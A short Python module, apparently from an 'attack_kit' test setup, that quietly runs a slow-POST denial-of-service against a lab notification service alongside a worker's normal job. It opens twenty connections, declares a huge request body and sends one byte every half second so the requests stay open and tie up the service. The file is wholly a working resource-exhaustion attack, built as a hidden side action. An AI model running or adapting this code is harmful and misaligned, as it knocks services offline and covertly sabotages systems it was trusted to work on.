"""Beside its work it keeps requests to the lab's service open that are never whole."""

import os
import socket
import threading
from urllib.parse import urlsplit

from attack_kit import beside, is_worker, ran

HEAD = "POST /{path} HTTP/1.1\r\nHost: here\r\nContent-Length: 1000000\r\n\r\n"


def drip():
    where = urlsplit(os.environ["LAB_NOTIFY_URL"])
    links = []
    for _ in range(20):
        link = socket.create_connection((where.hostname, where.port))
        link.sendall(HEAD.format(path=where.path.lstrip("/")).encode())
        links.append(link)
    ran("beside")
    while True:
        for link in list(links):
            try:
                link.sendall(b"{")
            except OSError:
                links.remove(link)
        threading.Event().wait(0.5)


if is_worker():
    beside(drip)
